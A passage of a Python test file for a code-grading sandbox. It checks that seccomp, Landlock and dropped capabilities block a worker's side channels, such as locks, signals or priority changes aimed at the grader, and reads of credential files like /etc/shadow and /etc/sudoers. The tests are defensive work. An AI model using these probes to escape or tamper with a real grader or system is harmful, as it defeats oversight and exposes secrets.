        checked(-1)
    checked(LIBC.setpriority(0, pid, value))

def affinity(pid):
    mask = ctypes.create_string_buffer(128)
    checked(LIBC.sched_getaffinity(pid, 128, mask))
    checked(LIBC.sched_setaffinity(pid, 128, mask))

def limits(pid):
    now = (ctypes.c_ulong * 2)()
    checked(LIBC.prlimit(pid, 7, None, now))  # RLIMIT_NOFILE
    checked(LIBC.prlimit(pid, 7, now, None))

def interface_flags():
    first, second = socket.socketpair()  # the allowed stream pair reached the machine's interfaces (the trial)
    with first, second:
        fcntl.ioctl(first.fileno(), 0x8913, struct.pack("16sH14x", b"lo", 0))  # SIOCGIFFLAGS: reads, changes nothing

def forced_buffer():
    first, second = socket.socketpair()
    with first, second:
        first.setsockopt(socket.SOL_SOCKET, 32, 1 << 20)  # SO_SNDBUFFORCE: root's, past the address-space limit

def held(path, lock, unlock):
    fd = os.open(path, os.O_RDONLY)
    try:
        lock(fd)  # a process outside that wants this file exclusively now waits or fails
        unlock(fd)
    finally:
        os.close(fd)

def inotify(path):
    fd = checked(LIBC.inotify_init1(0o2000000))  # IN_CLOEXEC
    try:
        checked(LIBC.inotify_add_watch(fd, os.fsencode(path), 0x100))  # IN_CREATE in a folder outside
    finally:
        os.close(fd)

def pinned():
    buffer = ctypes.create_string_buffer(4096)
    checked(LIBC.mlock(buffer, 4096))
    LIBC.munlock(buffer, 4096)

def spliced():
    read, write = os.pipe()
    try:
        buffer = ctypes.create_string_buffer(b"x")
        vector = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), 1)  # struct iovec: base, length
        checked(LIBC.vmsplice(write, vector, 1, 0))  # huge pages spliced so stayed pinned outside every limit
    finally:
        os.close(read)
        os.close(write)

def native_aio():
    context = ctypes.c_ulong(0)
    checked(LIBC.syscall({"x86_64": 206, "aarch64": 0}[os.uname().machine], 1, ctypes.byref(context)))  # io_setup
    LIBC.syscall({"x86_64": 207, "aarch64": 1}[os.uname().machine], context)  # io_destroy

def own_filter():
    allow = (ctypes.c_uint64 * 1)(0x7FFF000000000006)  # one instruction: BPF_RET | BPF_K, SECCOMP_RET_ALLOW
    program = struct.pack("HxxxxxxP", 1, ctypes.addressof(allow))  # struct sock_fprog
    checked(LIBC.prctl(38, 1, 0, 0, 0))  # no_new_privs, which an unprivileged filter needs
    checked(LIBC.prctl(22, 2, ctypes.c_char_p(program), 0, 0))  # PR_SET_SECCOMP, SECCOMP_MODE_FILTER

def lease(path):
    fd = os.open(path, os.O_RDONLY)
    try:
        fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_RDLCK)  # a writer opening the file now waits for this process
        fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_UNLCK)
    finally:
        os.close(fd)

def handle(t):
    outside, parent = t["outside"], os.getppid()
    answers = {
        "System V shared memory": attempt(lambda: system_v("shm", t["key"])),
        "System V message queue": attempt(lambda: system_v("msg", t["key"])),
        "System V semaphores": attempt(lambda: system_v("sem", t["key"])),
        "extended attribute outside": attempt(lambda: os.setxattr(outside, "user.kit", b"an input")),
        "owner outside": attempt(lambda: os.chown(outside, 1, 1)),
        "mode outside": attempt(lambda: changed(outside, lambda: os.chmod(outside, 0o604),
                                                lambda s: s.st_mode & 0o777, 0o604)),
        "times outside": attempt(lambda: changed(outside, lambda: os.utime(outside, (1234567890, 1234567890)),
                                                 lambda s: int(s.st_mtime), 1234567890)),
        "immutable file in scratch": attempt(immutable),
        "process name": attempt(name),
        "disk reserved in scratch": attempt(reserve),
        # Another process (the grader), each set to the value it has, so that the control changes nothing. Through
        # the C library: the worker takes these functions out of the os module.
        "nice of another process": attempt(lambda: nice(parent)),
        "affinity of another process": attempt(lambda: affinity(parent)),
        "limits of another process": attempt(lambda: limits(parent)),
        "signal to another process": attempt(lambda: checked(LIBC.kill(parent, 0))),
        "SIGIO to another process": attempt(lambda: fcntl.fcntl(os.open(".", os.O_RDONLY), fcntl.F_SETOWN, parent)),
        "SIGIO to another process by ioctl": attempt(lambda: sigio_owner(parent)),
        "lease holding writers of a file outside": attempt(lambda: lease(outside)),
        "flock on a file outside": attempt(lambda: held(
            outside, lambda fd: fcntl.flock(fd, fcntl.LOCK_SH | fcntl.LOCK_NB), lambda fd: fcntl.flock(fd, fcntl.LOCK_UN))),
        "record lock on a file outside": attempt(lambda: held(
            outside, lambda fd: fcntl.lockf(fd, fcntl.LOCK_SH | fcntl.LOCK_NB), lambda fd: fcntl.lockf(fd, fcntl.LOCK_UN))),
        "inotify on a folder outside": attempt(lambda: inotify(os.path.dirname(outside))),
        "network interface by the socket pair": attempt(interface_flags),
        "socket buffer forced past the limits": attempt(forced_buffer),
        "memory file": attempt(lambda: os.close(os.memfd_create("kit"))),
        "pinned memory": attempt(pinned),
        # SCHED_OTHER at priority 0, which the worker already has: the control changes nothing.
        "pinned pages by vmsplice": attempt(spliced),
        "native AIO context": attempt(native_aio),
        "a seccomp filter of its own": attempt(own_filter),
        "a Landlock ruleset of its own": attempt(lambda: checked(LIBC.syscall(444, None, 0, 1))),  # ABI version
        "scheduling policy": attempt(lambda: checked(LIBC.sched_setscheduler(0, 0, ctypes.byref(ctypes.c_int(0))))),
        "folder its owner cannot list": attempt(lambda: unlistable(0o300, 0o022)),
        "folder hidden by umask": attempt(lambda: unlistable(0o777, 0o700)),
    }
    if t["confined"]:  # as root this would renice every root process on the machine: never in the control
        answers["nice of every process of the user"] = attempt(lambda: checked(LIBC.setpriority(2, 0, 0)))
    here = os.getpid()
    answers["the worker itself"] = attempt(lambda: (
        checked(LIBC.kill(here, 0)), checked(LIBC.kill(0, 0)), checked(LIBC.kill(-here, 0)),
        signal.pthread_kill(threading.get_ident(), 0), nice(0), nice(here), affinity(0), limits(0), limits(here)))
    return answers
'''


def other_channels(monkeypatch, tmp_path, landlock=True, seccomp=True):
    """OTHER_PROBE's answers (dict: route -> str) in a worker with the guard off, and the outside file's stat
    before and after (os.stat_result pair); ``landlock``/``seccomp`` as for ``probe``."""
    outside = tmp_path / "outside.txt"  # outside scratch: the worker may read it, not change it
    outside.write_text("untouched", encoding="utf-8")
    os.chmod(outside, 0o644)
    before = os.stat(outside)
    key = 0x4D000000 | (os.getpid() & 0xFFFFFF)  # a System V key of this test's own
    targets = {"outside": str(outside), "key": key, "confined": landlock or seccomp}
    try:
        answers = probe(monkeypatch, targets, landlock, seccomp, code=OTHER_PROBE)
    finally:
        os.chmod(outside, 0o644)
    return answers, before, os.stat(outside), system_v_keys() & {key}


@SECCOMP
@pytest.mark.parametrize("landlock", [True, False], ids=["with Landlock", "seccomp alone"])
def test_no_other_channel_carries_anything_out(monkeypatch, tmp_path, landlock, transport):
    """System V objects, extended attributes, owners, modes and times of files outside scratch, an immutable
    scratch file that outlives the cleanup, the process name, disk reserved with fallocate, and reaching another
    process by its id (SIGIO's owner by fcntl or ioctl), a lease that holds any writer of a file outside, flock,
    record locks and inotify on files outside, the machine's network interfaces by the allowed socket pair, a
    socket buffer forced past the limits, memory files and pinned memory, pages pinned by vmsplice, a native AIO
    context, a seccomp filter or Landlock ruleset of its own (a log channel, kernel memory), a scheduling
    policy, a folder its owner cannot list (by mkdir's mode or by umask):
    none works with the guard gone; what a process does to itself still does."""
    answers, before, after, left = other_channels(monkeypatch, tmp_path, landlock=landlock)
    assert answers.pop("the worker itself") == "sent", json.dumps(answers)
    assert routes_that_got_through(answers) == {}, json.dumps(answers)
    for route in ("mode outside", "times outside", "process name"):
        assert answers[route] == "refused: PermissionError: unchanged", (route, answers[route])
    assert (after.st_mode, after.st_mtime_ns, after.st_uid, after.st_gid) == \
        (before.st_mode, before.st_mtime_ns, before.st_uid, before.st_gid)
    assert os.listxattr(os.path.join(str(tmp_path), "outside.txt")) == [] and left == set()


def test_each_other_channel_is_real_without_the_kernel_s_rules(monkeypatch, tmp_path):
    """The control: with no kernel rule every route works (extended attributes where the file system keeps user
    ones; FS_IOC_SETFLAGS where it has the flag), so the test above fails if the filter lets one through."""
    answers, _, after, left = other_channels(monkeypatch, tmp_path, landlock=False, seccomp=False)
    optional = {"extended attribute outside", "immutable file in scratch"}
    if os.geteuid() != 0:  # another user's process or file: the kernel's own permission check refuses these
        optional |= {"owner outside", "immutable file in scratch", "socket buffer forced past the limits",
                     "pinned memory"}  # RLIMIT_MEMLOCK is 0 in every worker: only root's CAP_IPC_LOCK passes it
    if kernel_rules.abi_version() == 0:
        optional.add("a Landlock ruleset of its own")
    assert sorted(set(answers) - set(routes_that_got_through(answers)) - optional) == [], json.dumps(answers)
    assert after.st_uid == 1 or "owner outside" in optional
    assert left == set()


# What a worker holds of root's capabilities, and one thing only a capability allows, with no filter to refuse it.
CAPABILITY_PROBE = r'''
import ctypes, socket

LIBC = ctypes.CDLL(None, use_errno=True)

def handle(t):
    header, sets = (ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)()  # version 3; this process
    if LIBC.capget(header, sets) < 0:
        return {"error": ctypes.get_errno()}
    bounding = [cap for cap in range(64) if LIBC.prctl(23, cap, 0, 0, 0) == 1]  # PR_CAPBSET_READ
    first, second = socket.socketpair()
    with first, second:
        try:
            first.setsockopt(socket.SOL_SOCKET, 32, 1 << 20)  # SO_SNDBUFFORCE: CAP_NET_ADMIN's
            forced = "sent"
        except OSError as exc:
            forced = "refused: " + type(exc).__name__
    return {"sets": list(sets), "bounding": bounding, "forced buffer": forced}
'''


ETC_PROBE = r'''
import getpass, mimetypes, os, platform, socket, time

def attempt(action):
    try:
        action()
        return "read"
    except Exception as exc:
        return "refused: " + type(exc).__name__

def handle(t):
    answers = {path: attempt(lambda: open(path, "rb").close()) for path in t["outside"]}
    answers["everyday"] = attempt(lambda: (getpass.getuser(), time.localtime(), socket.getservbyname("http", "tcp"),
                                          mimetypes.guess_type("a.json"), platform.freedesktop_os_release()))
    return answers
'''
# Files of /etc no solution reads, each there on most Linux systems; as root, also those only root may read.
ETC_OUTSIDE = ("/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/etc/fstab", "/etc/hostname", "/etc/shells",
               "/etc/issue", "/etc/debian_version", "/etc/machine-id")


@pytest.mark.skipif(kernel_rules.abi_version() == 0, reason="this kernel has no Landlock")
def test_of_etc_the_worker_reads_only_what_python_and_the_c_library_read(monkeypatch):
    """The whole of /etc let a worker started by root print /etc/shadow in a visible case, with the guard on
    (issue 40's fourth trial). Landlock alone (no filter, capabilities kept) now refuses every other file there;
    the user's name, the time zone, services, mime types and os-release still work; the control reads them all."""
    present = [path for path in ETC_OUTSIDE if os.path.isfile(path) and os.access(path, os.R_OK)]
    if not present:
        pytest.skip("none of the probe's /etc files is here")
    answers = probe(monkeypatch, {"outside": present}, landlock=True, seccomp=False, code=ETC_PROBE,
                    capabilities=False)
    assert answers == {**{path: "refused: PermissionError" for path in present}, "everyday": "read"}, answers
    control = probe(monkeypatch, {"outside": present}, landlock=False, seccomp=False, code=ETC_PROBE)
    assert control == {**{path: "read" for path in present}, "everyday": "read"}, control


def test_the_default_plan_gives_up_every_capability(tmp_path):
    """The plan the grader uses says so; the tests below show what that does in a worker."""
    plan = kernel_rules.prepare(str(tmp_path))
    assert plan is None or plan.capabilities is True


@pytest.mark.skipif(os.geteuid() != 0 or kernel_rules.abi_version() == 0,
                    reason="only a worker started by root has capabilities to give up (and Landlock for the probe)")
def test_a_worker_started_by_root_keeps_no_capability(monkeypatch):
    """CI and containers grade as root: a worker that kept root's capabilities passed every check no filter covers
    (issue 40's fourth trial: CAP_NET_ADMIN on the machine's interfaces, SCHED_FIFO, mlockall, descriptors in
    flight past the file limit). With the seccomp filter left out, the kernel's own check now refuses a forced
    socket buffer; the control (capabilities kept, the same rules) is allowed it."""
    dropped = probe(monkeypatch, {}, landlock=True, seccomp=False, code=CAPABILITY_PROBE, capabilities=True)
    assert dropped == {"sets": [0] * 6, "bounding": [], "forced buffer": "refused: PermissionError"}, dropped
    kept = probe(monkeypatch, {}, landlock=True, seccomp=False, code=CAPABILITY_PROBE, capabilities=False)
    assert kept["forced buffer"] == "sent" and 12 in kept["bounding"] and kept["sets"][0] & 1 << 12, kept  # NET_ADMIN


EVERYDAY = r'''
import asyncio, concurrent.futures, getpass, importlib, multiprocessing, pathlib, platform, shutil, socket, threading

def handle():
    done = {}

    async def twice(value):
        await asyncio.sleep(0)
        return value * 2

    done["asyncio"] = asyncio.run(twice(21))  # its event loop wakes itself through a stream socket pair
    with concurrent.futures.ThreadPoolExecutor(2) as pool:
        done["threads"] = sorted(pool.map(lambda n: n * n, range(4)))
    here, there = multiprocessing.Pipe()
    here.send({"ping": 1})
    done["multiprocessing.Pipe"] = there.recv()
    first, second = socket.socketpair()
    with first, second:
        first.sendall(b"pair")
        done["socketpair"] = second.recv(4).decode()
    modules = ["ssl", "http.client", "urllib.request", "sqlite3", "uuid", "logging.handlers", "smtplib",
               "socketserver", "subprocess", "email.mime.text", "xmlrpc.client", "ftplib", "imaplib", "poplib",
               "selectors", "zoneinfo", "decimal", "json", "unittest.mock"]
    done["imports"] = [name for name in modules if importlib.import_module(name)]
    done["names"] = [bool(platform.node()), bool(getpass.getuser()), bool(socket.gethostname())]
    # Copies in scratch set the new file's mode and times, which the filter answers without running.
    pathlib.Path("notes").mkdir()
    pathlib.Path("notes/a.txt").write_text("a")
    shutil.copy("notes/a.txt", "notes/b.txt")
    shutil.copy2("notes/a.txt", "notes/c.txt")
    shutil.copytree("notes", "copied")
    pathlib.Path("copied/a.txt").touch()
    done["copies"] = sorted(path.name + "=" + path.read_text() for path in pathlib.Path("copied").iterdir())
    return done
'''


EVERYDAY_FILES = r'''
import getpass, locale, os, pathlib, sqlite3, ssl, tempfile, time, zoneinfo

def handle():
    done = {}
    pathlib.Path("marker").touch()  # Path.touch tries os.utime first, which the filter answers without running
    done["touch"] = os.path.exists("marker")
    try:
        os.utime("missing")
        done["utime of a missing file"] = "no error"
    except FileNotFoundError:
        done["utime of a missing file"] = "FileNotFoundError"
    with tempfile.TemporaryFile() as handle:  # opens the scratch folder itself with O_TMPFILE
        handle.write(b"spooled")
        handle.seek(0)
        done["TemporaryFile"] = handle.read().decode()
    with tempfile.NamedTemporaryFile() as handle:
        done["NamedTemporaryFile"] = os.path.dirname(handle.name) == tempfile.gettempdir()
    with tempfile.SpooledTemporaryFile(max_size=1) as handle:
        handle.write(b"rolled over")
        done["SpooledTemporaryFile"] = handle._rolled
    # What the C library and the standard library read in /etc, now that Landlock grants only those files.
    done["ssl"] = ssl.create_default_context().verify_mode == ssl.CERT_REQUIRED
    done["zoneinfo"] = str(zoneinfo.ZoneInfo("UTC"))
    done["localtime"] = time.localtime(0).tm_year in (1969, 1970)
    done["user"] = bool(getpass.getuser())
    done["locale"] = bool(locale.getlocale())
    with sqlite3.connect(":memory:") as connection:
        done["sqlite3"] = connection.execute("select 6 * 7").fetchone()[0]
    with open("/dev/urandom", "rb") as random_bytes, open("/dev/zero", "rb") as zeros:
        done["devices"] = [len(random_bytes.read(4)), list(zeros.read(2))]
    return done
'''


def guarded_outcome(label, code):
    """The outcome of ``code``'s ``handle()`` in a worker with the guard on and every kernel rule, as in grading."""
    sandbox = Sandbox(Limits(case_seconds=20.0))
    try:
        sandbox.begin_load([{"label": label, "kind": "file", "code": code}], ["handle"])
        assert sandbox.load().fatal is None
        return sandbox.run("handle", [[]], {}, Responder(Transcript(), NeverCorrects("{}"), lambda n, a: "ok"))
    finally:
        sandbox.close()


def test_files_a_correct_submission_makes_work_under_the_rules():
    """Issue 40's fifth trial found two everyday file idioms broken in a guarded worker: Path.touch() made no file
    (the filter answers utime without running it) and tempfile.TemporaryFile was refused as writing outside
    scratch (it opens the folder itself). Both work now, with the standard library's readers of /etc."""
    outcome = guarded_outcome("files.py", EVERYDAY_FILES)
    assert outcome.problem is None, outcome.problem
    assert outcome.results[0]["result"]["plain"] == {
        "touch": True, "utime of a missing file": "FileNotFoundError", "TemporaryFile": "spooled",
        "NamedTemporaryFile": True, "SpooledTemporaryFile": True, "ssl": True, "zoneinfo": "UTC", "localtime": True,
        "user": True, "locale": True, "sqlite3": 42, "devices": [4, [0, 0]]}, outcome.results[0]


def test_what_a_correct_submission_uses_works_under_the_filter(monkeypatch):
    """asyncio, threads, multiprocessing.Pipe, a socket pair and the standard library's network modules (imported,
    not used) work in a guarded worker under the filter: the filter refuses what no solution needs, nothing more."""
    outcome = guarded_outcome("everyday.py", EVERYDAY)
    assert outcome.problem is None, outcome.problem
    assert outcome.results[0].get("raised") is None, outcome.results[0]
    done = outcome.results[0]["result"]["plain"]
    assert done == {"asyncio": 42, "threads": [0, 1, 4, 9], "multiprocessing.Pipe": {"ping": 1}, "socketpair": "pair",
                    "imports": ["ssl", "http.client", "urllib.request", "sqlite3", "uuid", "logging.handlers",
                                "smtplib", "socketserver", "subprocess", "email.mime.text", "xmlrpc.client", "ftplib",
                                "imaplib", "poplib", "selectors", "zoneinfo", "decimal", "json", "unittest.mock"],
                    "names": [True, True, True], "copies": ["a.txt=a", "b.txt=a", "c.txt=a"]}
